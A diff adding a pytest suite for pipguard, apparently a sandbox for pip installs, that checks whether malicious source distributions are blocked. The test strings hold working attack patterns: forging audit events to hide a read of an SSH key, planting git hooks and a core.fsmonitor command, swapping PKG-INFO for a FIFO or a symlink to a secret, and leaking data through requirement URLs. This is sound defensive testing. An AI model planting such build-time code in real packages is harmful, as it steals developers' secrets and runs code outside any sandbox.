@@ -1,0 +1,221 @@
+"""Attacks on the install seam by a malicious sdist or build requirement, found by review
+(docs/sandbox.md "What is blocked"): each is performed for real against a real pip, and must
+now fail and be reported.
+
+- a flood of forged audit events that pushes a blocked attempt out of the report;
+- a hook result naming a direct URL, which pip (unsandboxed, with the network) would fetch;
+- a build that plants git hooks / git configuration in the project it builds in, which the
+  user's next ``git`` command would run outside any sandbox;
+- a build that turns its PKG-INFO into a FIFO or a symlink to a secret, which pipguard (not
+  sandboxed) reads to name the package;
+- build requirements installed by pip's in-process installer (``--use-feature
+  inprocess-build-deps``), which skipped the gate.
+"""
+
+from __future__ import annotations
+
+import os
+import subprocess
+import textwrap
+from pathlib import Path
+
+import pytest
+
+from support import build_sdist
+from support.pipinstall import listing, make_venv, pg_install, site_import
+from test_install_seam import BACKEND, pip_list, write_project
+
+
+def _blocked(report):
+    return [e for e in report["events"] if e["action"] == "blocked"]
+
+
+# --------------------------------------------------------------------------- event flood
+FLOOD = """
+import json, os, subprocess
+cfg = json.loads(os.environ.get('PIPGUARD_HOOK') or '{{}}')
+if cfg.get('fifo'):
+    fd = os.open(cfg['fifo'], os.O_WRONLY)
+    for i in range(12000):  # past the report's cap (Policy.max_events, 10000)
+        line = {{'kind': 'file-read', 'action': 'allowed', 'target': '/usr/flood/%d' % i,
+                'rule': 'flood', 'pid': os.getpid(), 'detail': {{}}}}
+        os.write(fd, (json.dumps(line) + '\\n').encode())
+    os.close(fd)
+    import time
+    time.sleep(1)  # let the supervisor drain the FIFO before the real attempt
+    {attempt}
+"""
+ATTEMPTS = {
+    "python": "try:\n        open({secret!r}).read()\n    except OSError:\n        pass",
+    "native": "subprocess.run(['cat', {secret!r}], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)",
+}
+
+
+@pytest.mark.parametrize("how", ["python", "native"])
+def test_event_flood_cannot_hide_a_blocked_attempt(tmp_path, fake_home, links, target, how):
+    """Found by review: the report keeps at most max_events events and dropped the rest, a
+    refusal included; the audit FIFO is writable from the sandbox, so a build wrote 12000
+    forged harmless events, then read a key: verdict clean, installed, exit 0."""
+    secret = str(fake_home.secrets["id_rsa"])
+    extra = links.add(tmp_path / "extra")
+    proj = write_project(tmp_path / "f", "flooder")
+    code = FLOOD.format(attempt=ATTEMPTS[how].format(secret=secret))
+    (proj / "setup.py").write_text(code + (proj / "setup.py").read_text())
+    build_sdist(proj, extra)
+    before = listing(target)
+    proc, report = pg_install(["flooder"], home=fake_home, target=target, route=links, cwd=tmp_path)
+    assert proc.returncode == 1, proc.stderr[-3000:]
+    assert listing(target) == before
+    assert any(e["kind"] == "file-read" and e["target"] == secret for e in _blocked(report)), \
+        [e for e in report["events"] if e["rule"] != "flood"][:20]
+    assert report["events_dropped"] > 0  # the flood itself is what was dropped
+
+
+# --------------------------------------------------------------------------- direct URLs
+@pytest.mark.parametrize("where", ["build-requires", "requires-dist"])
+def test_hook_result_naming_a_url_is_refused(tmp_path, fake_home, links, target, loopback_tcp, where):
+    """Found by review: hook calls have no network, but what get_requires_for_build_wheel
+    returns (setup_requires) and the metadata prepare_metadata writes (install_requires) are
+    requirements pip resolves itself, unsandboxed: ``x @ http://HOST/...`` made pip connect
+    to any host, carrying whatever the build put in the URL."""
+    url = f"http://127.0.0.1:{loopback_tcp.port}/leak-from-the-sandbox.tar.gz"
+    keyword = "setup_requires" if where == "build-requires" else "install_requires"
+    extra = links.add(tmp_path / "extra")
+    proj = write_project(tmp_path / "u", "urlleak", setup_extra=f", {keyword}=['leak @ {url}']")
+    build_sdist(proj, extra)
+    before = listing(target)
+    proc, report = pg_install(["urlleak"], home=fake_home, target=target, route=links, cwd=tmp_path)
+    assert proc.returncode == 1, proc.stderr[-3000:]
+    assert loopback_tcp.received == [], loopback_tcp.received  # pip never fetched it
+    assert listing(target) == before
+    (pkg,) = [p for p in report["packages"] if p["name"] == "urlleak"]
+    assert pkg["verdict"] == "blocked"
+    assert any(f["rule"] == "direct-reference" and url in f["message"] for f in pkg["findings"]), pkg
+
+
+# --------------------------------------------------------------------------- the project's .git
+GIT_ATTACKS = {
+    # the quiet one: a new hook, run by the user's next checkout, outside any sandbox
+    "hook": """
+import os
+if os.path.isdir('.git/hooks'):
+    with open('.git/hooks/post-checkout', 'w') as handle:
+        handle.write('#!/bin/sh\\necho pwned > /tmp/pipguard-test-never\\n')
+    os.chmod('.git/hooks/post-checkout', 0o755)
+""",
+    # the loud one: configuration that runs a command at every `git status`
+    "config": """
+import os
+if os.path.isfile('.git/config'):
+    with open('.git/config', 'a') as handle:
+        handle.write('[core]\\n\\tfsmonitor = echo pwned\\n')
+""",
+}
+
+
+@pytest.mark.parametrize("how", sorted(GIT_ATTACKS))
+def test_build_cannot_plant_git_hooks_in_the_project(tmp_path, fake_home, links, target, how):
+    """Found by review: a local project is built in place, its tree writable by the build —
+    and with it the repository's .git: a hook or a core.fsmonitor there runs at the user's
+    (or CI's) next git command, unsandboxed. Now refused, reported, and put back."""
+    proj = write_project(tmp_path, "gitproj")
+    (proj / "setup.py").write_text(GIT_ATTACKS[how] + (proj / "setup.py").read_text())
+    git = proj / ".git"
+    (git / "hooks").mkdir(parents=True)
+    (git / "config").write_text("[core]\n\trepositoryformatversion = 0\n")
+    (git / "hooks" / "pre-commit.sample").write_text("#!/bin/sh\n")
+    (git / "HEAD").write_text("ref: refs/heads/main\n")
+    before_git = listing(git)
+    before = listing(target)
+    proc, report = pg_install(["."], home=fake_home, target=target, route=links, cwd=proj)
+    assert proc.returncode == 1, proc.stderr[-3000:]
+    assert listing(target) == before
+    assert listing(git) == before_git  # restored
+    (pkg,) = [p for p in report["packages"] if p["name"] == "gitproj"]
+    assert any(f["rule"] == "vcs-tamper" for f in pkg["findings"]), pkg
+
+
+# --------------------------------------------------------------------------- PKG-INFO
+PKG_INFO_ATTACKS = {
+    # pipguard opened it (not sandboxed) to name the package: blocked forever
+    "fifo": "os.remove('PKG-INFO'); os.mkfifo('PKG-INFO')",
+    # ... or read a file the build may not read, and put its fields into the report
+    "symlink": "os.remove('PKG-INFO'); os.symlink({secret!r}, 'PKG-INFO')",
+}
+
+
+@pytest.mark.parametrize("how", sorted(PKG_INFO_ATTACKS))
+def test_source_tree_metadata_is_not_read_through_a_trap(tmp_path, fake_home, links, target, how):
+    """Found by review: pipguard reads the source tree's PKG-INFO before every hook call (to
+    name the package in the report), unsandboxed; the previous call may have replaced it."""
+    secret = fake_home.path / ".config" / "app" / "meta.txt"
+    secret.parent.mkdir(parents=True, exist_ok=True)
+    secret.write_text("Name: canary-stolen-name\nVersion: 6.6.6\n")
+    extra = links.add(tmp_path / "extra")
+    proj = write_project(tmp_path / "p", "trapper")
+    trap = PKG_INFO_ATTACKS[how].format(secret=str(secret))
+    (proj / "setup.py").write_text((proj / "setup.py").read_text() + textwrap.dedent(f"""
+        import os
+        if os.path.isfile('PKG-INFO') and not os.path.islink('PKG-INFO'):
+            {trap}
+        """))
+    build_sdist(proj, extra)
+    before = listing(target)
+    proc, report = pg_install(["trapper"], home=fake_home, target=target, route=links, cwd=tmp_path,
+                              timeout=300)
+    assert proc.returncode == 1, proc.stderr[-3000:]
+    assert listing(target) == before
+    text = (tmp_path / "install-report.json").read_text()
+    assert "canary-stolen-name" not in text and "6.6.6" not in text
+    (pkg,) = [p for p in report["packages"] if p["name"] == "trapper"]
+    assert any(f["rule"] == "source-tamper" and f["member"].endswith("PKG-INFO")
+               for f in pkg["findings"]), pkg
+
+
+# --------------------------------------------------------------------------- in-process build deps
+def test_inprocess_build_deps_are_gated(tmp_path, fake_home, links, wheelhouse):
+    """Found by review: pip 26's ``--use-feature inprocess-build-deps`` installs build
+    requirements from pip's own process through pip._internal.req.install_given_reqs — not the
+    install command's, which the seam wrapped: a build requirement with a .pth that runs code
+    went into the build environment ungated and the install reported clean."""
+    target = make_venv(tmp_path / "target26", "26.3", wheelhouse)
+    extra = links.add(tmp_path / "extra")
+    proj = write_project(tmp_path / "b", "needsdropper",
+                         pyproject=BACKEND.replace('"setuptools"', '"setuptools", "pth_dropper"'))
+    build_sdist(proj, extra)
+    before = listing(target)
+    proc, report = pg_install(["--use-feature", "inprocess-build-deps", "needsdropper"],
+                              home=fake_home, target=target, route=links, cwd=tmp_path)
+    assert proc.returncode == 1, proc.stderr[-3000:]
+    assert listing(target) == before
+    assert "needsdropper" not in pip_list(target)
+    (pkg,) = [p for p in report["packages"] if p["name"] == "pth-dropper"]
+    assert pkg["verdict"] == "gate" and "pth-exec" in [f["rule"] for f in pkg["findings"]], pkg
+    assert "build requirement" in report["message"]
+
+
+# --------------------------------------------------------------------------- credentials on argv
+def test_every_spelling_of_a_credential_option_leaves_the_command_line():
+    """Found by review: only ``-i URL``, ``--index-url[=]URL`` (and the extra/find-links
+    forms) were moved off pip's command line; optparse also takes ``-iURL`` and unique
+    abbreviations (``--extra=URL``), and ``--proxy`` carries credentials too (pip 26 forwards
+    it to its build-env subprocesses). Those stayed world-readable in /proc/PID/cmdline."""
+    from pipguard._seam.target import move_credentials
+
+    args, env = move_credentials(
+        ["install", "-ihttps://u:t@h/s", "--extra=https://a:b@x/s", "--find", "http://e:f@z/",
+         "--prox=http://p:q@px:3128", "--pre", "--prefix", "/x", "-f", "/l", "--", "-iz"], {})
+    assert args == ["install", "--pre", "--prefix", "/x", "-f", "/l", "--", "-iz"]
+    assert env == {"PIP_INDEX_URL": "https://u:t@h/s", "PIP_EXTRA_INDEX_URL": "https://a:b@x/s",
+                   "PIP_FIND_LINKS": "http://e:f@z/", "PIP_PROXY": "http://p:q@px:3128"}
+
+
+def test_extra_index_url_with_credentials_does_not_crash(tmp_path, fake_home, links, target):
+    """Found by review: an --extra-index-url with a user part and no PIP_EXTRA_INDEX_URL in the
+    environment crashed pipguard with a KeyError traceback before pip started."""
+    proc, report = pg_install(["--extra-index-url", "http://u:tok3n@127.0.0.1:9/simple", "legit_pure"],
+                              home=fake_home, target=target, route=links, cwd=tmp_path)
+    assert "Traceback" not in proc.stderr, proc.stderr[-3000:]
+    assert proc.returncode == 0, proc.stderr[-3000:]
+    assert site_import(target, "legit_pure").returncode == 0
+    assert "tok3n" not in (tmp_path / "install-report.json").read_text()
